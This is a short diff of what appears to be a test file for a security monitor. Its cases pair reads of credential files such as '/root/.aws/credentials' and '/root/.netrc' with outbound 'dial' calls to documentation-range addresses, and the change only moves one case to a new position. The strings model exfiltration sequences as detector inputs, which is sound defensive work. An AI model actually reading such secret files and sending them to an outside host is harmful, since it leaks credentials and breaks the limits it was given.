@@ -35,8 +35,8 @@ CASES = {
         ['read("/root/.aws/credentials"); dial("198.51.100.202", 80)'],
         [
             'read("/root/.aws/config"); dial("198.51.100.203", 80)',
-            'read("/root/.netrc"); dial(OUT, 80)',
             'run("ps", "aux"); dial("198.51.100.204", 80)',
+            'read("/root/.netrc"); dial(OUT, 80)',
         ],
     ),
     "contact/first_contact_inside": Case(['dial("10.77.200.1", 80)'], ["dial(IN, 80)"]),
